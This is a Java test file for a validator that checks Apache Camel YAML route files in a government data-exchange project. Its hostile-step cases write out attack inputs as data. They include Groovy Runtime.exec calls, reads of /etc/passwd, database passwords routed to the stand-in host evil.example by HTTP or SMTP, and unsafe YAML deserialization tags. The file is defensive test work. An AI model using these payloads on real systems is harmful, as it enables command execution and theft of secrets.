package onewindow.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.util.List;
import java.util.stream.Stream;
import onewindow.catalog.ContentProblem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class RouteFileCheckTest {

  private static final String GOOD = "to: {uri: 'vertx-http:{{onewindow.exchange.departments.credit.url}}/record',"
      + " parameters: {httpMethod: POST}}";

  @Test
  void everyShippedRouteFileIsGood() {
    List<RouteFile> files = new RouteFiles().all();
    assertThat(files).extracting(RouteFile::name).contains("defaults.camel.yaml", "departments/credit.camel.yaml",
        "departments/public-security.camel.yaml");
    assertThat(files).allSatisfy(file -> assertThat(RouteFileCheck.check(file)).isEmpty());
  }

  @ParameterizedTest
  @ValueSource(strings = {
      GOOD,
      "setHeader: {name: X-Token, constant: '{{onewindow.exchange.departments.credit.token}}'}",
      "setHeader: {name: X-Key, simple: 'key ${header.Idempotency-Key}'}",
      "removeHeaders: {pattern: 'X-*'}",
      "to: {uri: 'direct:credit.other'}",
      "toD: {uri: 'vertx-http:{{onewindow.exchange.departments.credit.url}}/a/${header.Idempotency-Key}',"
          + " parameters: {httpMethod: GET}}"
  })
  void stepsThatCarryAQuestionAreAllowed(String step) {
    assertThat(check(route(step))).isEmpty();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileSteps")
  void aStepThatDoesAnythingElseIsRefused(String step, String because) {
    assertThat(check(route(step))).extracting(ContentProblem::message).singleElement().asString().contains(because);
  }

  static Stream<Arguments> hostileSteps() {
    String url = "vertx-http:{{onewindow.exchange.departments.credit.url}}";
    return Stream.of(
        arguments("script: {groovy: 'Runtime.getRuntime().exec(\"id\")'}", "has the step [script]"),
        arguments("bean: {ref: dataSource, method: getConnection}", "has the step [bean]"),
        arguments("process: {ref: anything}", "has the step [process]"),
        arguments("log: '${body}'", "has the step [log]"),
        arguments("setBody: {simple: '${body}'}", "has the step [setBody]"),
        arguments("pollEnrich: {constant: 'file:/etc'}", "has the step [pollEnrich]"),
        arguments("recipientList: {simple: '${header.to}'}", "has the step [recipientList]"),
        arguments("unmarshal: {json: {unmarshalType: java.lang.Object}}", "has the step [unmarshal]"),
        arguments("choice: {when: [{groovy: '1', steps: []}]}", "has the step [choice]"),
        arguments("to: 'exec:id'", "to goes to null"),
        arguments("to: {uri: 'exec:id'}", "to goes to exec:id"),
        arguments("to: {uri: 'file:/tmp'}", "to goes to file:/tmp"),
        arguments("to: {uri: 'bean:dataSource'}", "to goes to bean:dataSource"),
        arguments("to: {uri: 'language:groovy:1'}", "to goes to language:groovy:1"),
        arguments("to: {uri: 'direct:public-security.household'}", "to goes to direct:public-security.household"),
        arguments("to: {uri: 'vertx-http:http://evil.example'}", "to goes to vertx-http:http://evil.example"),
        arguments("to: {uri: '" + url + ".evil.example/x'}", "to goes to"),
        arguments("to: {uri: '" + url + "@evil.example/x'}", "to goes to"),
        arguments("to: {uri: '" + url + "/../admin', parameters: {httpMethod: GET}}", "to goes to"),
        arguments("to: {uri: '" + url + "/a?transferException=true'}", "to goes to"),
        arguments("to: {uri: '" + url + "/a?webClientOptions=#class:x.Y'}", "to goes to"),
        arguments("to: {uri: 'vertx-http:{{onewindow.exchange.departments.public-security.url}}/household',"
            + " parameters: {httpMethod: POST}}", "to goes to"),
        arguments("to: {uri: 'vertx-http:{{env:HOME}}/x', parameters: {httpMethod: GET}}", "to goes to"),
        arguments("to: {uri: '" + url + "/a', parameters: {httpMethod: POST, proxyHost: evil}}", "and no other"),
        arguments("to: {uri: '" + url + "/a', parameters: {httpMethod: DELETE}}", "and no other"),
        arguments("to: {uri: '" + url + "/a'}", "and no other"),
        arguments("to: {uri: '" + url + "/a', id: x, parameters: {httpMethod: POST}}", "may have uri and parameters"),
        arguments("to: {uri: '" + url + "/a\\nb', parameters: {httpMethod: POST}}", "to goes to"),
        arguments("toD: {uri: '" + url + "/${bean:x?method=y}', parameters: {httpMethod: GET}}", "toD goes to"),
        arguments("toD: {uri: '" + url + "/${header.a.toString()}', parameters: {httpMethod: GET}}", "toD goes to"),
        arguments("toD: {uri: '${header.where}', parameters: {httpMethod: GET}}", "toD goes to"),
        arguments("toD: {uri: '" + url + "/a+language:simple:b', parameters: {httpMethod: GET}}", "toD goes to"),
        arguments("setHeader: {name: CamelHttpUri, constant: 'http://evil.example'}", "which steers Camel"),
        arguments("setHeader: {name: camelhttppath, constant: '/admin'}", "which steers Camel"),
        arguments("setHeader: {name: X, simple: '${bean:x}'}", "setHeader computes"),
        arguments("setHeader: {name: X, simple: '${header.x.getClass()}'}", "setHeader computes"),
        arguments("setHeader: {name: X, simple: '${header.x[0]}'}", "setHeader computes"),
        arguments("setHeader: {name: X, simple: '${body}'}", "setHeader computes"),
        arguments("setHeader: {name: X, simple: '$simple{sysenv.HOME}'}", "setHeader computes"),
        arguments("setHeader: {name: X, constant: 'resource:file:/etc/passwd'}", "setHeader computes"),
        arguments("setHeader: {name: X, constant: '{{spring.datasource.password}}'}", "setHeader computes"),
        arguments("setHeader: {name: X, constant: '{{onewindow.exchange.departments.public-security.token}}'}",
            "setHeader computes"),
        arguments("setHeader: {name: X, groovy: '1'}", "one text, constant or simple"),
        arguments("setHeader: {name: X, simple: 'a', groovy: '1'}", "one text, constant or simple"),
        arguments("setHeader: {name: X, constant: {expression: 'a', resultType: x.Y}}", "one text, constant or simple"),
        arguments("removeHeaders: {pattern: '*', excludePattern: 'X'}", "needs a name or pattern"));
  }

  @ParameterizedTest(name = "{1}")
  @MethodSource("hostileFiles")
  void aFileThatIsMoreThanRoutesIsRefused(String yaml, String because) {
    assertThat(check(yaml)).extracting(ContentProblem::message).anyMatch(message -> message.contains(because));
  }

  static Stream<Arguments> hostileFiles() {
    return Stream.of(
        arguments("- beans: [{name: x, type: java.lang.ProcessBuilder}]", "an item of the file may have [route]"),
        arguments("- onException: {exception: [java.lang.Exception]}", "an item of the file may have [route]"),
        arguments("- rest: {get: [{to: 'file:x'}]}", "an item of the file may have [route]"),
        arguments("- from: {uri: 'timer:x', steps: []}", "an item of the file may have [route]"),
        arguments(route(GOOD) + "  beans: []\n", "an item of the file may have [route]"),
        arguments(route(GOOD).replace("direct:credit.record", "timer:tick"), "must come from direct:credit.record"),
        arguments(route(GOOD).replace("direct:credit.record", "direct:other"), "must come from direct:credit.record"),
        arguments(route(GOOD).replace("credit.record", "public-security.household"), "must be credit.<question>"),
        arguments(route(GOOD).replace("    from:", "    errorHandler: {}\n    from:"), "a route may have"),
        arguments(route(GOOD).replace("      steps:", "      parameters: {block: true}\n      steps:"),
            "from may have"),
        arguments("- route: {id: credit.record, from: {uri: 'direct:credit.record'}}", "has no list of steps"),
        arguments("route: {}", "one YAML document with one list"),
        arguments("[]\n---\n[]", "one YAML document with one list"),
        arguments("", "one YAML document with one list"),
        arguments("- route: !!javax.script.ScriptEngineManager []", "no readable YAML"),
        arguments("- &a [*a]", "no readable YAML"),
        arguments("- {route: {}, route: {}}", "no readable YAML"));
  }

  @ParameterizedTest(name = "{1}")
  @MethodSource("hostileMail")
  void eMailGoesToTheServerOfItsOwnSettings(String step, String because) {
    String gateway = route(step).replace("credit.record", "e-mail.message");
    assertThat(RouteFileCheck.check(new RouteFile("gateways/e-mail.camel.yaml", gateway)))
        .extracting(ContentProblem::message).singleElement().asString().contains(because);
  }

  @Test
  void aDepartmentSendsNoEMail() {
    String settings = "{{onewindow.exchange.departments.credit.";
    assertThat(check(route("to: {uri: 'smtp:" + settings + "host}}:" + settings + "port}}', parameters: {from: '1'}}")))
        .extracting(ContentProblem::message).singleElement().asString().contains("to goes to smtp:");
  }

  static Stream<Arguments> hostileMail() {
    String settings = "{{onewindow.exchange.gateways.e-mail.";
    String server = "smtp:" + settings + "host}}:" + settings + "port}}";
    return Stream.of(
        arguments("to: {uri: 'smtp:evil.example:25', parameters: {from: '1'}}", "e-mail goes to smtp:evil.example:25"),
        arguments("to: {uri: '" + server + "?to=all@evil.example', parameters: {}}", "e-mail goes to"),
        arguments("to: {uri: 'smtp:{{spring.datasource.url}}:{{spring.datasource.password}}'}", "e-mail goes to"),
        arguments("toD: {uri: 'smtp:${header.To}:25'}", "e-mail goes to"),
        arguments("to: {uri: 'imap:evil.example'}", "to goes to imap:evil.example"),
        arguments("to: {uri: '" + server + "', parameters: {to: all@evil.example}}", "may have the parameters"),
        arguments("to: {uri: '" + server + "', parameters: {bcc: '1'}}", "may have the parameters"),
        arguments("to: {uri: '" + server + "', parameters: {session: '#x'}}", "may have the parameters"),
        arguments("to: {uri: '" + server + "', parameters: {from: '{{spring.datasource.password}}'}}",
            "may have the parameters"),
        arguments("to: {uri: '" + server + "'}", "may have the parameters"),
        arguments("to: {uri: 'vertx-http:{{onewindow.exchange.departments.credit.url}}/x', parameters: {httpMethod: GET}}",
            "to goes to"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"gateways/deep/sms.camel.yaml", "gateway/sms.camel.yaml", "other.camel.yaml", "departments/deep/credit.camel.yaml", "departments/.camel.yaml"})
  void routesStandNowhereElse(String name) {
    assertThat(RouteFileCheck.check(new RouteFile(name, route(GOOD)))).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "- route: {id: credit.record}",
      "- routeConfiguration: {id: x, errorHandler: {noErrorHandler: {}}}",
      "- routeConfiguration: {errorHandler: {deadLetterChannel: {deadLetterUri: 'file:/tmp'}}}",
      "- routeConfiguration: {errorHandler: {noErrorHandler: {}}, onException: []}"
  })
  void theDefaultsOnlyLetErrorsPass(String yaml) {
    assertThat(RouteFileCheck.check(new RouteFile("defaults.camel.yaml", yaml))).isNotEmpty();
  }

  private static List<ContentProblem> check(String yaml) {
    return RouteFileCheck.check(new RouteFile("departments/credit.camel.yaml", yaml));
  }

  private static String route(String step) {
    return """
        - route:
            id: credit.record
            from:
              uri: direct:credit.record
              steps:
                - %s
        """.formatted(step);
  }
}
